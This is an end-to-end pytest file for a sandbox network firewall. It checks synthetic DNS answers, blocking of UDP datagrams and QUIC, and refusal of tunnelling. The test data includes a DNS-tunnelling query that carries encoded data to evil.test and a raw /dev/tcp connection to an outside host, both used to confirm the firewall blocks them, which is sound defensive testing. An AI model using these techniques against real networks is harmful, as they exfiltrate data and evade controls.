"""Names and datagrams: the firewall answers questions, and no other UDP goes anywhere."""

import os
import subprocess
from collections.abc import Iterator

import pytest

from tests.e2e.clients import SYSTEM_PYTHON, Steps, has_python, opened, take_steps
from tests.e2e.conftest import Workplace, needs
from tests.e2e.servers import Certificates
from tests.waiting import PATIENCE

pytestmark = pytest.mark.skipif(not has_python(), reason=f"not installed: {SYSTEM_PYTHON}")

POLICY = """
version: 1
name: test
network:
  rules:
    - {name: web, allow: https, hosts: [origin.test, "*.invalid"]}
    - {name: plain, allow: http, hosts: ["*.invalid"]}
"""
DIG = "dig +time=30 +tries=1"
CARRIED = ".".join(["mzxw6ytboi2dimrugezdgnbvgy3tqojqmzxw6ytboi2dimrugezdgnbvgy3"] * 3)
DATAGRAM = f"""{SYSTEM_PYTHON} - <<'END'
import socket
family = socket.AF_INET6 if ":" in "HOST" else socket.AF_INET
client = socket.socket(family, socket.SOCK_DGRAM)
for _ in range(3):
    client.sendto(bytes.fromhex("c300000001") + bytes(1195), ("HOST", PORT))
# The firewall takes datagrams in order: with this answer, it has seen to the others.
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
question = "000101000001000000000000" "066f726967696e047465737400" "00010001"
resolver.sendto(bytes.fromhex(question), ("198.18.0.1", 53))
resolver.recv(1000)
client.settimeout(0.3)
try:
    print(client.recv(100))
except OSError as error:
    print(type(error).__name__)
END
"""


def _datagrams(host: str, port: int) -> str:
    return DATAGRAM.replace("HOST", host).replace("PORT", str(port))


SCRIPTS = {
    "a": f"{DIG} +short origin.test A",
    "aaaa": f"{DIG} +short origin.test AAAA",
    "again": f"{DIG} +short ORIGIN.test. A",
    "other-server": f"{DIG} +short @192.0.2.53 origin.test A",
    "server-6": f"{DIG} +short @2001:db8::53 origin.test A",
    "tcp": f"{DIG} +short +tcp origin.test A",
    "tcp-elsewhere": f"{DIG} +short +tcp @2001:db8::53 origin.test AAAA",
    "denied-name": f"{DIG} +short elsewhere.test A",
    "localhost": f"{DIG} +short localhost A",
    "https": f"{DIG} origin.test HTTPS",
    "txt": f"{DIG} origin.test TXT",
    "txt-tcp": f"{DIG} +tcp origin.test TXT",
    "tunnel": f"{DIG} {CARRIED}.evil.test TXT",
    "tunnel-tcp": f"{DIG} +tcp {CARRIED}.evil.test TXT",
    "libc": "getent ahostsv4 origin.test",
    "quic": _datagrams("203.0.113.9", 443),
    "datagram": _datagrams("203.0.113.9", 4500),
    "datagram-6": _datagrams("2001:db8::9", 443),
    "datagram-name": _datagrams("origin.test", 443),
    "not-dns": "exec 3<>/dev/tcp/192.0.2.53/53; printf 'SSH-2.0-OpenSSH_9.2\\r\\n' >&3; cat <&3",
}


@pytest.fixture(scope="module")
def ran(certificates: Certificates) -> Iterator[Steps]:
    with opened(certificates) as workplace:
        yield take_steps(workplace, workplace.policy(POLICY), SCRIPTS)


@needs("dig")
@pytest.mark.parametrize("name", ["a", "again", "other-server", "server-6", "tcp"])
def test_a_name_has_one_synthetic_address_whoever_is_asked(ran: Steps, name: str) -> None:
    assert ran[name].status == 0, ran[name].out
    assert ran[name].out.startswith("198.18.")
    assert ran[name].out == ran["a"].out
    assert ran[name].blocked == []


@needs("dig")
def test_ipv6_likewise(ran: Steps) -> None:
    assert ran["aaaa"].out.startswith("fd00:c612::")
    assert ran["tcp-elsewhere"].out == ran["aaaa"].out


@needs("dig")
def test_a_denied_name_has_an_address_too_so_that_its_refusal_can_explain_itself(
    ran: Steps,
) -> None:
    assert ran["denied-name"].out.startswith("198.18.")
    assert ran["denied-name"].out != ran["a"].out


@needs("dig")
def test_localhost_is_the_sandboxes_own(ran: Steps) -> None:
    assert ran["localhost"].out == "127.0.0.1\n"


def test_libc_gets_the_same(ran: Steps) -> None:
    assert ran["libc"].out.startswith("198.18.")


@needs("dig")
def test_other_questions_are_answered_empty(ran: Steps) -> None:
    for name in ("https", "txt", "txt-tcp"):
        assert "status: NOERROR" in ran[name].out
        assert "ANSWER: 0," in ran[name].out
    assert ran["https"].blocked == []


@needs("dig")
@pytest.mark.parametrize("name", ["txt", "txt-tcp"])
def test_a_question_that_can_carry_data_is_recorded(ran: Steps, name: str) -> None:
    record = ran[name].block("names", "dig")
    assert record["request"] == {
        "type": "Resolve",
        "name": "origin.test",
        "kind": "TXT",
        "findings": [],
    }


@needs("dig")
@pytest.mark.parametrize("name", ["tunnel", "tunnel-tcp"])
def test_a_tunnel_in_names_is_refused(ran: Steps, name: str) -> None:
    assert "status: REFUSED" in ran[name].out
    record = ran[name].block("guards.tunnels", "dig")
    assert record["verdict"]["severity"] == "critical"
    assert record["request"]["findings"][0]["name"] == "dns-tunnel"


@pytest.mark.parametrize(
    ("name", "host", "port"),
    [
        ("quic", "203.0.113.9", 443),
        ("datagram", "203.0.113.9", 4500),
        ("datagram-6", "2001:db8::9", 443),
        ("datagram-name", "origin.test", 443),
    ],
)
def test_datagrams_go_nowhere_and_a_burst_is_one_record(
    ran: Steps, name: str, host: str, port: int
) -> None:
    assert ran[name].out == "TimeoutError\n"
    request = ran[name].block("default", "python3")["request"]
    assert (request["host"], request["port"], request["transport"]) == (host, port, "udp")


def test_what_is_no_question_on_port_53_is_judged_like_on_any_other(ran: Steps) -> None:
    step = ran["not-dns"]
    assert b"Blocked by the firewall".decode() in step.out
    request = step.block("default", "bash")["request"]
    assert (request["host"], request["port"], request["protocol"]) == ("192.0.2.53", 53, "ssh")


@needs("curl", "unshare")
@pytest.mark.skipif(os.geteuid() != 0, reason="needs root, to give the firewall no name server")
def test_a_name_that_leads_nowhere_is_trouble_and_no_block(workplace: Workplace) -> None:
    """With a name server on loopback that is not there, so that no question leaves."""
    nameserver = workplace.folder / "resolv.conf"
    nameserver.write_text("nameserver 127.0.0.1\noptions attempts:1 timeout:1\n")
    script = 'mount --bind $0 /etc/resolv.conf && exec "$@"'
    curl = "curl -sS -w '%{http_code}\\n' https://nowhere.invalid/; "
    agent = ("bash", "-c", curl + curl.replace("https:", "http:"))
    command = workplace.command(workplace.policy(POLICY), *agent)
    done = subprocess.run(
        ["unshare", "--mount", "sh", "-c", script, str(nameserver), *command],
        cwd=workplace.work,
        env=workplace.environment,
        capture_output=True,
        check=False,
        text=True,
        timeout=PATIENCE,
    )
    assert done.stdout.count("the name nowhere.invalid cannot be resolved") == 2, done
    assert done.stdout.count("The firewall could not reach the server") == 2
    assert done.stdout.count("502\n") == 2
    assert not [each for each in workplace.records() if "gpu" in each]
